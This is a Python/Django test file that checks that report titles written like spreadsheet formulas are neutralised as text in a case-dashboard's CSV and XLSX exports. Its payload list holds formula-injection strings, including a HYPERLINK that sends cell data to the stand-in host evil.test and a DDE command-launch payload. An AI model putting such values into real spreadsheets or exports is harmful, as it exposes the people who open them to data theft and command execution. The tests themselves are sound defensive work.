"""Issue 14, point 8: a report titled like a formula stays text in every CSV and XLSX export."""

from __future__ import annotations

import csv
import io

from django.test import Client
from openpyxl import load_workbook

from netral.cases.models import Case
from netral.core.spreadsheet import csv_cell
from tests.dashboards.conftest import World

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_neutralised_in_csv_and_xlsx(alice_client: Client, world: World) -> None:
    for i, pk in enumerate(Case.objects.order_by("pk").values_list("pk", flat=True)):
        Case.objects.filter(pk=pk).update(title=PAYLOADS[i % len(PAYLOADS)])
    body = b"".join(alice_client.get("/dasbor/ekspor/cases.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    column = rows[0].index("Peristiwa")
    titles = [row[column] for row in rows[1:]]
    assert len(titles) >= 4
    # shown as text by every spreadsheet: the payload behind an apostrophe
    assert all(t.startswith("'") and t[1:] in PAYLOADS for t in titles), titles
    body = b"".join(alice_client.get("/dasbor/ekspor/cases.xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in PAYLOADS]
    assert len(cells) == len(titles)
    assert {c.data_type for c in cells} == {"s"}  # string cells, never formulas ("f")


def test_the_neutraliser_leaves_other_values_alone() -> None:
    assert csv_cell("Kades Budi") == "Kades Budi"
    assert csv_cell(-5) == -5
    assert csv_cell("=1") == "'=1"
